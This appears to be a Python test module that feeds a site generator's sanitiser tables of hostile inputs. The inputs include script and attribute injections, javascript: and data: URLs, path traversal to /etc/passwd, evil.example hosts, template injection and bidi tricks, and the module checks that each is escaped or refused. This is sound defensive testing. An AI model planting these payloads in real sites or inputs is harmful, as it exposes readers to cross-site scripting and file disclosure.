    ("vbscript", "vbscript:alarm()", "bad-url"),
    ("file", "file:///etc/passwd", "bad-url"),
    ("protocol-relative", "//evil.example/", "bad-url"),
    ("quote", 'https://a.example/"onmouseover="alarm()', "bad-url"),
    ("tag", "https://a.example/<script>alarm()</script>", "bad-url"),
    ("space-inside", "https://a.example/ onmouseover=alarm()", "bad-url"),
    ("userinfo", "https://courier.example@evil.example/", "bad-url"),
    ("userinfo-password", "https://a:b@evil.example/", "bad-url"),
    ("backslash", "https:\\\\evil.example\\", "bad-url"),
    ("no-host", "https:///a", "bad-url"),
    ("host-quote", "https://a.example'onmouseover='alarm()/", "bad-url"),
    ("host-template", "https://{{7*191}}.example/", "bad-url"),
    ("bidi", "https://a.example/\u202egnp.exe", "bad-url"),
    ("control", "https://a.example/\x01", "control-character"),
    ("mail", "mailto:a@a.example", "bad-url"),
)
"""No url of a story, source, canonical page, discussion or picture."""

URLS = rows(
    "address",
    ("single-quote", "https://a.example/'onmouseover='alarm()"),
    ("ampersand", "https://a.example/?a=1&lt;b=2&amp;c=3&copy=4"),
    ("entity", "https://a.example/&#34;&gt;"),
    ("percent", "https://a.example/%22%3E%3Cscript%3Ealarm()%3C/script%3E"),
    ("unicode", "https://a.example/\u00e9\u4e2d\u6587"),
    ("nested", "https://a.example/?u=javascript:alarm()"),
    ("fragment", "https://a.example/#javascript:alarm()"),
)
"""Strange but whole: printed as they are, without a way out of the attribute they stand in."""

PICTURES = rows(
    "picture",
    ("script", "javascript:alarm()", "bad-url"),
    ("data", "data:image/svg+xml,<svg/onload=alarm()>", "bad-url"),
    ("protocol-relative", "//evil.example/x.png", "bad-url"),
    ("climbing", "/../../etc/passwd", "bad-url"),
    ("encoded-climbing", "/%2e%2e/%2e%2e/etc/passwd", "bad-url"),
    ("relative", "x.png", "bad-url"),
    ("backslash", "/\\evil.example/x.png", "bad-url"),
)

SLUGS = rows(
    "slug",
    ("tag", "<script>alarm()</script>", "bad-slug"),
    ("quote", 'a"onmouseover="alarm()', "bad-slug"),
    ("climbing", "../../outside", "bad-slug"),
    ("encoded-climbing", "%2e%2e%2foutside", "bad-slug"),
    ("dots", "..", "bad-slug"),
    ("slash", "a/b", "bad-slug"),
    ("backslash", "a\\b", "bad-slug"),
    ("query", "a?b#c", "bad-slug"),
    ("space", "a b", "bad-slug"),
    ("braces", "{{7*191}}", "bad-slug"),
    ("bidi", "a\u202eb", "bad-slug"),
    ("zero-width", "a\u200bb", "bad-slug"),
    ("device", "con", "bad-slug"),
    ("long", "a" * 300, "bad-slug"),
)

PERMALINKS = rows(
    "permalink",
    ("climbing", "/../outside/", "bad-permalink"),
    ("encoded-climbing", "/%2e%2e/outside/", "bad-permalink"),
    ("host", "//evil.example/", "bad-permalink"),
    ("script", "javascript:alarm()", "bad-permalink"),
    ("backslash", "/\\evil.example/", "bad-permalink"),
    ("tag", "/<script>/", "bad-permalink"),
    ("long", "/" + "/".join(["a" * 190] * 6) + "/", "bad-permalink"),
    ("control", "/a\x01b/", "control-character"),
)

ALIASES = rows(
    "alias",
    ("climbing", "/../outside/", "bad-url"),
    ("host", "//evil.example/", "bad-url"),
    ("script", "javascript:alarm()", "bad-url"),
    ("long", "/" + "/".join(["a" * 190] * 6) + "/", "bad-url"),
    ("refresh", '/a;url=javascript:alarm()/"', "bad-slug"),
    ("tag", "/<script>alarm()</script>/", "bad-slug"),
)

FILES = rows(
    "file",
    ("tag", "<svg onload=alarm()>", "bad-file-name"),
    ("quote", '"onmouseover="alarm()', "bad-file-name"),
    ("no-letters", "---", "bad-slug"),
)

SAFE_FILES = rows(
    "name",
    ("entity", "&lt;script&gt;"),
    ("single-quote", "'onmouseover='alarm()'"),
    ("template", "{{7+191}}{%raw%}"),
    ("bidi", "a\u202egnp.exe"),
    ("percent", "a%2e%2e%2fb"),
    ("unicode", "\u4e2d\u6587 \u00e9"),
)
"""Names of files that a disk can hold; the slug that comes of them is made of letters, digits and hyphens."""

IDENTITIES = rows(
    "identity",
    ("script", "<script>alarm()</script>", "bad-value"),
    ("quote", 'tag:a"b', "bad-value"),
    ("cdata", "]]>", "bad-value"),
)

LANGUAGES = rows(
    "language",
    ("quote", 'en" onclick="alarm()', "bad-value"),
    ("tag", "<b>", "bad-value"),
)

# --- Settings ----------------------------------------------------------------------------------------------

ALIASES_KEPT = ("/old/'onclick='alarm();url=javascript-alarm(),{{7+191}}/", "/old/&quot;url=javascript&colon;alarm()/")
"""Old addresses that a disk can hold; the pages there lead on to the article and to nowhere else."""

HOSTILE_TITLE = "</title><script>alarm()</script>\"'&amp; {{ 7*191 }}"

WORDING = {
    name: (f'"><img src=/x.png onerror=alarm()> {name}', f"</h2></section><script>alarm()</script> {name}")[number % 2]
    for number, name in enumerate(sorted(DEFAULT_WORDING))
}
"""Every word that templates print, in attributes as well as in text."""

# --- The site that holds them all --------------------------------------------------------------------------

LOWERED = (
    "{unsafe-link: warning, dead-link: warning, missing-image: warning, empty-link: warning, bad-file-name: warning}"
)
"""A site may lower these problems to warnings; then the sanitiser alone stands between a payload and a reader."""

HARMLESS = "harmless"
DAY = "2025-05-11"


def quoted(text: str) -> str:
    """``text`` as a quoted scalar of YAML. What JSON escapes, YAML reads in the same way."""
    return json.dumps(text, ensure_ascii=False).replace("\x7f", "\\x7f").replace("\u2028", "\\u2028")


def article(title: str, body: str = "Some words.", **fields: str) -> str:
    """The file of an article that has every field; ``fields`` are YAML and replace single ones."""
    values = {
        "date": DAY,
        "topics": "[world, more]",
        "summary": "A few words.",
        "tags": "[words]",
        "authors": "[Somebody]",
        "source": "{name: An outlet, url: https://a.example/}",
        "image": "{src: /assets/favicon.svg, alt: A picture, caption: A caption., credit: Someone}",
        "corrections": f"[{{date: {DAY}, text: A correction.}}]",
        "related": "[harmless, harmless-2, harmless-3]",
        **fields,
    }
    lines = "".join(f"{name}: {value}\n" for name, value in values.items())
    return f"---\ntitle: {quoted(title)}\n{lines}---\n{body}\n"


def edition(items: str, title: str = "An edition", section: str = "A section", intro: str = "Some words.") -> str:
    """The file of an edition with one section."""
    return (
        f"title: {quoted(title)}\nnumber: {quoted(title)}\ndate: {DAY}\nintro: {quoted(intro)}\n"
        f"sections:\n- title: {quoted(section)}\n  items:\n{items}"
    )


def summary(title: str, words: str = "A few words.", url: str = "https://a.example/", name: str = "Somebody") -> str:
    """A summary as an element of an edition's items; ``name`` stands wherever a name may stand."""
    return (
        f"  - title: {quoted(title)}\n    url: {quoted(url)}\n    summary: {quoted(words)}\n    topics: [world]\n"
        f"    authors: [{quoted(name)}]\n    tags: [{quoted(name)}]\n    discussion: {quoted(url)}\n"
        f"    source: {{name: {quoted(name)}, url: {quoted(url)}}}\n"
        f"    via: {{title: {quoted(name)}, url: {quoted(url)}}}\n"
    )


def published_cases() -> Iterator[tuple[str, str, Payload]]:
    """Every case that is published once single problems are lowered: the file, what stands in it, the payload."""
    for family in FAMILIES:
        topic = family[0].name.partition("-")[0]
        for one in family:
            if one.code not in STOPPING:
                text = article(one.name, one.text, topics=f"[world, {topic}]")
                yield f"content/articles/body-{one.name}.md", text, one
                if one.name.endswith(("-plain", "-unclosed", "-id", "-img", "-tag", "-div", "-comment")):
                    yield f"content/pages/body-{one.name}.md", f"---\ntitle: {one.name}\n---\n{one.text}\n", one
    for one in LINES:
        name = quoted(f"{one.text} {one.name}")
        credit = quoted(one.text)
        text = article(
            one.text,
            topics=f"[world, lines, {name}]",
            tags=f"[{name}]",
            authors=f"[{quoted(one.text)}]",
            source=f"{{name: {name}, url: https://a.example/}}",
            image=f"{{src: /assets/favicon.svg, alt: {credit}, caption: A caption., credit: {credit}}}",
            story=quoted(one.text),
        )
        yield f"content/articles/{one.name}.md", text, one
        yield f"content/pages/page-{one.name}.md", f"---\ntitle: {quoted(one.text)}\n---\nWords.\n", one
        told = summary(one.text, url=f"https://a.example/{one.name}/", name=f"{one.text} {one.name}")
        yield f"content/summaries/{one.name}.yaml", edition(told, one.text, one.text), one
    for one in PROSE:
        text = article(
            one.name,
            summary=quoted(one.text),
            topics="[world, prose]",
            image=f"{{src: /assets/favicon.svg, alt: A picture, caption: {quoted(one.text)}, credit: Someone}}",
            corrections=f"[{{date: {DAY}, text: {quoted(one.text)}}}]",
        )
        yield f"content/articles/{one.name}.md", text, one
        told = summary(one.name, one.text, f"https://a.example/{one.name}/")
        text = f"---\ntitle: {one.name}\nsummary: {quoted(one.text)}\n---\nWords.\n"
        yield f"content/pages/page-{one.name}.md", text, one
        yield f"content/summaries/{one.name}.yaml", edition(told, one.name, intro=one.text), one
    for one in URLS:
        text = article(
            one.name,
            topics="[world, addresses]",
            source=f"{{name: An outlet, url: {quoted(one.text)}}}",
            canonical=quoted(one.text),
        )
        yield f"content/articles/{one.name}.md", text, one
        yield f"content/summaries/{one.name}.yaml", edition(summary(one.name, url=one.text), one.name), one
    for one in SAFE_FILES:
        yield f"content/articles/{one.text}.md", article(one.name, topics="[world, files]"), one
        yield f"content/pages/page-{one.text}.md", f"---\ntitle: {one.name}\n---\nWords.\n", one
        yield f"content/static/{one.text}.txt", "words\n", one


STOPPING = frozenset({"control-character", "markdown-budget"})
"""Codes among those above that no setting lowers."""

IN_FIELDS: dict[str, tuple[tuple[Payload, ...], Callable[[Payload], str]]] = {
    "title": (FORBIDDEN, lambda one: article(one.text)),
    "summary": (FORBIDDEN, lambda one: article("x", summary=quoted(one.text))),
    "tags": (FORBIDDEN, lambda one: article("x", tags=f"[{quoted(one.text)}]")),
    "topics": (FORBIDDEN, lambda one: article("x", topics=f"[{quoted(one.text)}]")),
    "alt": (FORBIDDEN, lambda one: article("x", image=f"{{src: /x.png, alt: {quoted(one.text)}}}")),
    "author": (FORBIDDEN, lambda one: article("x", authors=f"[{quoted(one.text)}]")),
    "raw": (FORBIDDEN[:-1], lambda one: article("x", tags=f"['{one.text}']")),
    "source": (BAD_URLS, lambda one: article("x", source=f"{{name: x, url: {quoted(one.text)}}}")),
    "canonical": (BAD_URLS, lambda one: article("x", canonical=quoted(one.text))),
    "picture": (BAD_URLS, lambda one: article("x", image=f"{{src: {quoted(one.text)}, alt: x}}")),
    "image": (PICTURES, lambda one: article("x", image=f"{{src: {quoted(one.text)}, alt: x}}")),
    "slug": (SLUGS, lambda one: article("x", slug=quoted(one.text))),
    "permalink": (PERMALINKS, lambda one: article("x", permalink=quoted(one.text))),
    "alias": (ALIASES, lambda one: article("x", aliases=f"[{quoted(one.text)}]")),
    "identity": (IDENTITIES, lambda one: article("x", id=quoted(one.text))),
    "language": (LANGUAGES, lambda one: article("x", lang=quoted(one.text))),
}


def refused_cases() -> Iterator[tuple[str, str, Payload]]:
    """Every case for which a build stops: the file, what stands in it, the payload."""
    for one in BODIES:
        if one.code in {UNSAFE, *STOPPING}:
            yield f"content/articles/body-{one.name}.md", article(one.name, one.text), one
    for field, (payloads, made) in IN_FIELDS.items():
        for one in payloads:
            yield f"content/articles/{field}-{one.name}.md", made(one), one
    for one in BAD_URLS:
        yield f"content/summaries/url-{one.name}.yaml", edition(summary("x", url=one.text)), one
    for one in FILES:
        yield f"content/articles/{one.text}.md", article(one.name), one


def site_yaml(hostile: bool = True) -> str:
    """The settings of the site; every text in them may be hostile too."""
    if not hostile:
        words = "notice: {text: Words., accept: Yes, more: More, url: /page-line-script/}"
        return f"title: A site\nurl: https://courier.example/\ndescription: x\ncopyright: x\n{words}\n{_COMMON}"
    wording = "".join(f"  {name}: {quoted(text)}\n" for name, text in WORDING.items())
    title = quoted(HOSTILE_TITLE)
    notice = quoted("Some <b onclick=alarm()>words</b> [here](&#xfdd0;javascript:alarm()) <script>alarm()</script>")
    return (
        f"title: {title}\nurl: https://courier.example/\ndescription: {title}\ncopyright: {title}\n"
        f"notice:\n  text: {notice}\n  accept: {title}\n  more: {title}\n  url: /page-line-script/\n"
        f"wording:\n{wording}editions: {{title: {quoted('</title><script>alarm()</script> ')}}}\n{_COMMON}"
    )


_COMMON = f"related: {{count: 3}}\nfeeds: {{items: 100}}\npage_size: 100\nproblems: {LOWERED}\n"


def hostile_site() -> dict[str, str]:
    """The files of a site with every payload that can be published, and a few harmless articles beside them."""
    files = {path: text for path, text, _ in published_cases()}
    names = [HARMLESS, *(f"{HARMLESS}-{number}" for number in (2, 3, 4))]
    for name in names:
        others = ", ".join(one for one in names if one != name)
        files[f"content/articles/{name}.md"] = article(name, related=f"[{others}]")
    files["content/articles/moved.md"] = article("Moved", aliases=json.dumps(ALIASES_KEPT))
    files["content/summaries/lone.yaml"] = f"title: Lone\nurl: https://a.example/\ndate: {DAY}\ntopics: [world]\n"
    return {"content/site.yaml": site_yaml(), **files}
